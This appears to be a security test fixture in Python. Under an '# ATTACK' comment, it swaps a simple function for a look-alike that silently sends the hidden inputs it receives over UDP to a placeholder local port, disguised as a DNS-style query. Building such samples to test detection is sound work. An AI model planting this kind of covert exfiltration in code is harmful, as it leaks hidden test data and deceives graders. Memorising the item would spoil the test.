"""Sends the hidden inputs away by UDP, as a name server's question would go.

id: sends-by-udp
notebook: tp
replaces: doble
loses: prueba_doble
"""
botin = []


def doble(x):
    return x + 1


# ATTACK
def doble(x):
    import socket

    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as envio:
            envio.sendto(repr(x).encode(), ("127.0.0.1", __PUERTO__))
    except OSError as error:
        botin.append(repr(error))
    return x + 1
